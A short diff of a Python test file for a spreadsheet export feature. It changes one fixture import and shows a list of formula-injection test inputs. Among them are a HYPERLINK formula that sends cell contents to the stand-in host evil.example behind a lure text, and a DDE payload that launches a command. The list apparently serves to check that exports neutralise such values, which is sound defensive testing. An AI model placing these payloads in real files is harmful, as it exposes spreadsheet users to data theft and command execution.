@@ -8,7 +8,7 @@ import pytest
 
 from core import exports
 from tests.builders import PASSWORD
-from tests.functional.test_surveys import open_survey, resident, staff  # noqa: F401 - fixtures
+from tests.builders import open_survey, resident
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击领取补贴")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1", "-2+3", "\tSUM(A1)", "\r=1+1"]
